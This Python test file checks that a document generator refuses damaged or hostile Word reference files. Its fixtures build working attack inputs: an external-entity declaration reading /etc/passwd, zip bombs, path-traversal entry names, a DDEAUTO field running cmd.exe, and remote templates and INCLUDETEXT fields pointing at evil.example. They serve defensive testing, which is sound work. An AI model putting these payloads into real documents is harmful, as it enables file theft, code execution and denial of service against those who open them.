"""Reference documents and forms that may do harm, or cannot be read, are refused by what they hold, at once."""

from __future__ import annotations

import io
import time
import tracemalloc
import warnings
import zipfile
from collections.abc import Callable, Iterator
from functools import partial
from random import Random

import pytest

from docgen.diagnostic import Findings
from docgen.ooxml.word import word_package, word_parts
from docgen.write.docx.house.builtin import builtin_document
from docgen.write.docx.writer import write_docx
from docgen.write.edition import Edition, Reference
from docgen.write.zip import packed, unpacked
from tests.casefile import diagnostics_text
from tests.house_documents import RELATIONS, relations_part
from tests.tables import workbook
from tests.trees import document, paragraph

PATH = "templates/styles/reference.docx"
DOCTYPE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
MOST_SECONDS, MOST_BYTES = 1.0, 200_000_000

LONG = Random(13).randbytes(5_100_000).hex()
"""More letters than a text may have, which do not pack well: a bomb is refused for another reason."""
CHINESE = "\N{CJK UNIFIED IDEOGRAPH-4E2D}"
CHINESE_LONG = "".join(map(chr, range(0x4E00, 0x9FFF))) * 170
"""The same in bytes, of a third as many letters."""

ABSURD = {
    "what no Word file has": {
        "a name without end": f"<w:{'x' * 60_000}/>",
        "the name of a value without end": f"<w:x w:{'x' * 60_000}=''/>",
        "a name without end that nobody uses": f"<w:x xmlns:{'x' * 60_000}='u'/>",
        "a name without end in Chinese": f"<w:{CHINESE * 20_000}/>",
        "a value without end": f"<w:x w:v='{LONG}'/>",
        "a namespace without end": f"<w:x xmlns:q='{LONG}'/>",
        "a comment without end": f"<!--{LONG}-->",
        "an instruction without end": f"<?x {LONG}?>",
    },
    "a text of more than 5 MB": {
        "a text without end": f"<w:x>{LONG}</w:x>",
        "a text without end in Chinese": f"<w:x>{CHINESE_LONG}</w:x>",
        "a text without end that is marked as such": f"<w:x><![CDATA[{LONG}]]></w:x>",
        "a text without end between comments": f"<w:x>{LONG[:3_000_000]}<!-- -->{LONG[:3_000_000]}</w:x>",
    },
}
"""What stands among the styles, by what is said of it."""

Make = Callable[[], bytes]


def changed(name: str, old: str, new: str) -> bytes:
    """docgen's reference document with a part changed in one place."""
    parts = unpacked(builtin_document())
    text = parts[name].decode()
    assert old in text
    return packed({**parts, name: text.replace(old, new, 1).encode()})


def with_parts(**more: str | bytes) -> bytes:
    """The same with further parts; `__` in a name is a slash, and the last `_` a full stop."""
    named = {name.replace("__", "/"): data for name, data in more.items()}
    files = {".".join(name.rsplit("_", 1)): data for name, data in named.items()}
    encoded = {name: data.encode() if isinstance(data, str) else data for name, data in files.items()}
    return packed({**unpacked(builtin_document()), **encoded})


def in_the_styles(markup: str) -> bytes:
    return changed("word/styles.xml", "<w:docDefaults>", f"{markup}<w:docDefaults>")


def leading(kind: str, target: str, part: str = "word/document.xml", mode: str = ' TargetMode="External"') -> bytes:
    """The same with a relationship that leads out of it."""
    folder, _, file = part.rpartition("/")
    parts = unpacked(builtin_document())
    rels = f"{folder}/_rels/{file}.rels"
    more = relations_part([("rIdOut", kind, target)], mode)
    old = parts.get(rels, f'<Relationships xmlns="{RELATIONS}"></Relationships>'.encode()).decode()
    item = more.partition(">")[2].removesuffix("</Relationships>")
    return packed({**parts, rels: old.replace("</Relationships>", f"{item}</Relationships>").encode()})


def without(*names: str) -> bytes:
    """The same without some of its parts."""
    return packed({name: data for name, data in unpacked(builtin_document()).items() if name not in names})


def zipped(*entries: tuple[str, bytes]) -> bytes:
    """The same with further entries, of any name."""
    buffer = io.BytesIO(builtin_document())
    with warnings.catch_warnings(), zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive:
        warnings.simplefilter("ignore")
        for name, data in entries:
            archive.writestr(name, data)
    return buffer.getvalue()


def encrypted() -> bytes:
    """The same with the mark of an entry that needs a password."""
    data = bytearray(builtin_document())
    data[6] |= 1
    data[data.index(b"PK\x01\x02") + 8] |= 1
    return bytes(data)


def run_of_field(instruction: str) -> str:
    """A field whose instruction is split over runs, as attackers do, and Word."""
    pieces = "".join(f"<w:r><w:instrText>{letter}</w:instrText></w:r>" for letter in instruction)
    begin, end = ('<w:r><w:fldChar w:fldCharType="begin"/></w:r>', '<w:r><w:fldChar w:fldCharType="end"/></w:r>')
    return f"<w:body><w:p>{begin}{pieces}{end}</w:p>"


def in_body(markup: str) -> bytes:
    """The same with this in its body."""
    return changed("word/document.xml", "<w:body>", f"<w:body>{markup}")


DAMAGED: dict[str, tuple[Make, str]] = {
    "nothing": (lambda: b"", "the file is not a Word document"),
    "a text": (lambda: b"Dear all", "the file is not a Word document"),
    "a web page": (lambda: b"<html></html>", "the file is not a Word document"),
    "an old or encrypted document": (
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
        "the file is encrypted, or an old '.doc' document",
    ),
    "cut short": (lambda: builtin_document()[:9000], "the document is damaged"),
    "a byte lost": (lambda: builtin_document()[:2000] + builtin_document()[2001:], "the document is damaged"),
    "a password on its entries": (encrypted, "the document is encrypted"),
    "another archive": (lambda: packed({"a.txt": b"x"}), "the file is not a Word document, but another archive"),
    "a document of OpenDocument": (
        lambda: packed({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<x/>"}),
        "the file is not a Word document, but another archive",
    ),
    "a workbook": (lambda: workbook({"A": [["a"]]}), "the file is an Excel workbook"),
    "a presentation": (
        lambda: changed("[Content_Types].xml", "wordprocessingml.document.main", "presentationml.presentation.main"),
        "the file is a PowerPoint presentation",
    ),
    "no text": (lambda: without("word/document.xml"), "the file holds no text of Word: its main part is missing"),
    "no styles": (lambda: without("word/styles.xml"), "the document holds no styles"),
    "no relationships": (lambda: without("_rels/.rels"), "the file holds no text of Word: its main part is missing"),
    "a part that is no XML": (
        lambda: changed("word/styles.xml", "<w:docDefaults>", "<w:docDefaults"),
        "its part 'word/styles.xml' is not XML",
    ),
    "an encoding that is none": (
        lambda: changed("word/styles.xml", "UTF-8", "klingon"),
        "its part 'word/styles.xml' is not XML",
    ),
    "Strict Open XML": (
        lambda: changed(
            "word/document.xml",
            "http://schemas.openxmlformats.org/wordprocessingml/2006/main",
            "http://purl.oclc.org/ooxml/wordprocessingml/main",
        ),
        "the document is saved as 'Strict Open XML Document'",
    ),
}

UNSAFE: dict[str, tuple[Make, str]] = {
    "a bomb": (
        lambda: zipped(("word/media/a.bin", b"\0" * 50_000_000)),
        "its part 'word/media/a.bin' unpacks to more than 200 times its size",
    ),
    "a bomb of many parts": (
        lambda: zipped(*((f"word/{i}.bin", bytes(range(256)) * 3900) for i in range(70))),
        "it unpacks to more than 60 MB",
    ),
    "thousands of parts": (lambda: zipped(*((f"{i}.txt", b"") for i in range(2001))), "it holds more than 2,000 parts"),
    "a part named twice": (lambda: zipped(("word/styles.xml", b"<x/>")), "it holds two parts of the same name"),
    "a part named twice, in capitals": (
        lambda: zipped(("WORD/Styles.xml", b"<x/>")),
        "it holds two parts of the same name",
    ),
    "a part that leads upwards": (
        lambda: zipped(("../../x.txt", b"x")),
        "its part '../../x.txt' leads out of the file",
    ),
    "a part that leads upwards, as on Windows": (
        lambda: zipped(("word\\..\\..\\x.txt", b"x")),
        "leads out of the file",
    ),
    "a part at the root": (lambda: zipped(("/etc/x", b"x")), "its part '/etc/x' leads out of the file"),
    "a part on a drive": (lambda: zipped(("C:/x", b"x")), "its part 'C:/x' leads out of the file"),
    "an entity": (
        lambda: changed("word/styles.xml", "<w:styles", f"{DOCTYPE}<w:styles"),
        "its part 'word/styles.xml' declares a document type",
    ),
    "an entity in relationships": (
        lambda: changed("word/_rels/document.xml.rels", "<Relationships", f"{DOCTYPE}<Relationships"),
        "its part 'word/_rels/document.xml.rels' declares a document type",
    ),
    "an entity in a drawing": (
        lambda: with_parts(word__media__a_svg=f"{DOCTYPE}<svg/>"),
        "its part 'word/media/a.svg' declares a document type",
    ),
    "an entity in UTF-16": (
        lambda: with_parts(word__media__a_svg=f"{DOCTYPE}<svg/>".encode("utf-16")),
        "its part 'word/media/a.svg' declares a document type",
    ),
    "elements without end": (
        lambda: changed("word/styles.xml", "<w:docDefaults>", "<w:x>" * 3000 + "</w:x>" * 3000 + "<w:docDefaults>"),
        "its part 'word/styles.xml' holds more elements than a document needs",
    ),
    **{
        name: (partial(in_the_styles, markup), f"its part 'word/styles.xml' holds {message}")
        for message, markups in ABSURD.items()
        for name, markup in markups.items()
    },
    "macros": (lambda: with_parts(word__vbaProject_bin=b"x"), "it holds macros"),
    "macros under another name": (lambda: leading("vbaProject", "media/x.png", mode=""), "holds macros"),
    "a type with macros": (
        lambda: changed(
            "[Content_Types].xml",
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            "application/vnd.ms-word.document.macroEnabled.main+xml",
        ),
        "it holds macros",
    ),
    "a template from elsewhere": (
        lambda: leading("attachedTemplate", "https://evil.example/x.dotm", "word/settings.xml"),
        "its part 'word/settings.xml' fetches 'https://evil.example/x.dotm' (attachedTemplate)",
    ),
    "a picture from elsewhere": (
        lambda: leading("image", "\\\\evil\\share\\x.png", "word/header1.xml"),
        "its part 'word/header1.xml' fetches '\\\\evil\\share\\x.png' (image)",
    ),
    "a frame from elsewhere": (lambda: leading("frame", "http://evil.example"), "(frame)"),
    "an object from elsewhere": (lambda: leading("oleObject", "http://evil.example"), "holds an embedded object"),
    "an embedded file": (lambda: leading("package", "embeddings/x.xlsx", mode=""), "holds an embedded file"),
    "a control": (lambda: leading("control", "x.xml", mode=""), "holds a control that runs a program"),
    "a document inside": (
        lambda: leading("subDocument", "http://evil.example/x.docx"),
        "holds another file that is taken in",
    ),
    "a web page inside": (lambda: leading("aFChunk", "x.html", mode=""), "holds another file that is taken in"),
    "an element that takes in a file": (
        lambda: in_body('<w:altChunk xmlns:r="x" r:id="rId1"/>'),
        "its part 'word/document.xml' takes in another file",
    ),
    "an embedded object": (
        lambda: in_body("<w:p><w:r><w:object/></w:r></w:p>"),
        "its part 'word/document.xml' holds an embedded object",
    ),
    "a field that runs a program, in pieces": (
        lambda: changed("word/document.xml", "<w:body>", run_of_field(' dDeAuTo c:\\\\cmd.exe "/k calc"')),
        "holds the field DDEAUTO, which fetches from elsewhere or runs a program",
    ),
    "a field that fetches a text": (
        lambda: in_body('<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;http://evil.example&quot;"/></w:p>'),
        "holds the field INCLUDETEXT",
    ),
    "a field that fetches a picture, in a header": (
        lambda: changed(
            "word/header1.xml", "<w:p>", '<w:p><w:fldSimple w:instr="INCLUDEPICTURE http://evil.example/x.png"/>'
        ),
        "its part 'word/header1.xml' holds the field INCLUDEPICTURE",
    ),
}


def cases() -> Iterator[object]:
    for code, found in (("DG060", DAMAGED), ("DG061", UNSAFE)):
        for name, (make, message) in found.items():
            yield pytest.param(make, code, message, id=name)


@pytest.mark.parametrize(("make", "code", "message"), list(cases()))
def test_a_hostile_or_broken_document_is_refused_at_once(make: Make, code: str, message: str) -> None:
    data = make()
    findings = Findings()
    tracemalloc.start()
    started = time.perf_counter()
    parts = word_package(data, PATH, findings)
    seconds, most = time.perf_counter() - started, tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert parts is None
    (found,) = findings
    assert (found.code.id, found.source.path) == (code, PATH)
    assert message in found.message
    assert found.help
    assert "\n" not in found.message
    assert seconds < MOST_SECONDS * 2, "twice the limit, since memory is traced"
    assert most < MOST_BYTES


@pytest.mark.parametrize(("make", "code", "message"), list(cases()))
def test_no_paper_is_written_with_it(make: Make, code: str, message: str) -> None:
    findings = Findings()
    edition = Edition(reference=Reference(PATH, make()))
    assert write_docx(document(paragraph("x")), findings, edition) == b""
    assert [found.code.id for found in findings] == [code], diagnostics_text(findings)


def test_links_to_web_pages_may_stay() -> None:
    findings = Findings()
    data = leading("hyperlink", "https://www.england.nhs.uk", "word/header1.xml")
    assert word_package(data, PATH, findings) is not None
    assert not findings


def test_a_document_that_is_only_read_may_have_a_template_and_objects_but_no_entities() -> None:
    findings = Findings()
    assert word_parts(leading("attachedTemplate", "file:///C:/x.dotm", "word/settings.xml"), PATH, findings)
    assert word_parts(in_body("<w:p><w:r><w:object/></w:r></w:p>"), PATH, findings)
    assert not findings
    assert word_parts(changed("word/styles.xml", "<w:styles", f"{DOCTYPE}<w:styles"), PATH, findings) is None
    assert [found.code.id for found in findings] == ["DG061"]
